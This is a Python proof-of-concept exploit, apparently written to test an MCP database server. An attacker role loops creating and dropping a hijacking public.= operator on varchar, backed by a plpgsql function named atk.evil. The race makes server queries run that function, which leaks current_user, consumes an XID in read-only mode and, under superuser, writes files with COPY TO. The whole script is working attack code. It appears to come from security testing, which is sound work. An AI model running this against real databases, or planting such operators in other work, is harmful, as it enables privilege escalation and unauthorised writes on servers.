"""Race the name-resolution window: an attacker session creates and drops a better-matching
`public.=(varchar, varchar)` in a loop while the server runs `WHERE code = 'x'` (varchar column).
The planted function raises an error naming current_user and the XID it made the server's
read-only transaction consume; as a superuser server it also writes a file (COPY TO).
Usage: race_name.py [reader|postgres] [calls]"""
import asyncio
import json
import os
import sys
import time

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect

# TOOL: execute_query (default), explain (explain_query, analyze false: the constant comparison
# is folded at plan time), sample (get_sample_rows where_clause), resource (pg://.../sample is
# not filtered, so it is not raced here)
TOOL = os.environ.get("TOOL", "execute_query")
CALLS = {
    "execute_query": ("execute_query", {"sql": "SELECT id FROM items WHERE code = 'x'"}),
    "explain": ("explain_query", {"sql": "SELECT 1 WHERE 'x'::varchar = 'y'", "analyze": False}),
    "sample": ("get_sample_rows", {"table_name": "items", "schema_name": "public", "where_clause": "code = 'x'"}),
}
HOLD = float(os.environ.get("HOLD", "0"))  # seconds each state is held (0: flip as fast as possible)
SETUP_ADMIN = """
DROP TABLE IF EXISTS public.items; CREATE TABLE public.items (id int, code varchar(10));
INSERT INTO public.items VALUES (1,'x'),(2,'y');
GRANT SELECT ON public.items TO reader;
"""
SETUP_ATK = r"""
DROP OPERATOR IF EXISTS public.= (varchar, varchar);
DROP FUNCTION IF EXISTS atk.evil(varchar, varchar);
CREATE FUNCTION atk.evil(varchar, varchar) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', current_user, '/tmp/atk-pwned-' || x);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.evil(varchar, varchar) TO PUBLIC;
"""

async def flipper(stop: asyncio.Event, counter: list[int]) -> None:
    c = await asyncpg.connect(as_role("attacker"))
    try:
        while not stop.is_set():
            await c.execute("CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = atk.evil)")
            if HOLD: await asyncio.sleep(HOLD)
            await c.execute("DROP OPERATOR public.= (varchar, varchar)")
            if HOLD: await asyncio.sleep(HOLD)
            counter[0] += 1
    finally:
        try:
            await c.execute("DROP OPERATOR IF EXISTS public.= (varchar, varchar)")
        finally:
            await c.close()

async def main(role: str, calls: int) -> None:
    a = await asyncpg.connect(DSN); await a.execute(SETUP_ADMIN); await a.close()
    a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP_ATK); await a.close()
    dsn = DSN if role == "postgres" else as_role(role)
    outcomes: dict[str, int] = {}
    stop = asyncio.Event(); counter = [0]
    async with connect(dsn) as c:
        ok, body = await tool(c, CALLS[TOOL][0], **CALLS[TOOL][1])
        print("baseline:", ok, json.dumps(body)[:200])
        task = asyncio.create_task(flipper(stop, counter))
        t0 = time.monotonic()
        try:
            for i in range(calls):
                ok, body = await tool(c, CALLS[TOOL][0], **CALLS[TOOL][1])
                if ok:
                    k = "ran-clean"
                else:
                    msg = body["error"]["message"]
                    k = "PWNED" if "PWNED" in msg else body["error"]["code"] + ":" + body["error"]["context"].get("rule", "")
                    if "PWNED" in msg and outcomes.get("PWNED", 0) < 3:
                        print(f"call {i}: {msg}")
                outcomes[k] = outcomes.get(k, 0) + 1
        finally:
            stop.set(); await task
        print(f"{calls} calls in {time.monotonic()-t0:.1f}s, {counter[0]} flips:", outcomes)
    print("files:", sorted(f for f in os.listdir("/tmp") if f.startswith("atk-pwned")))

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", int(sys.argv[2]) if len(sys.argv) > 2 else 200))
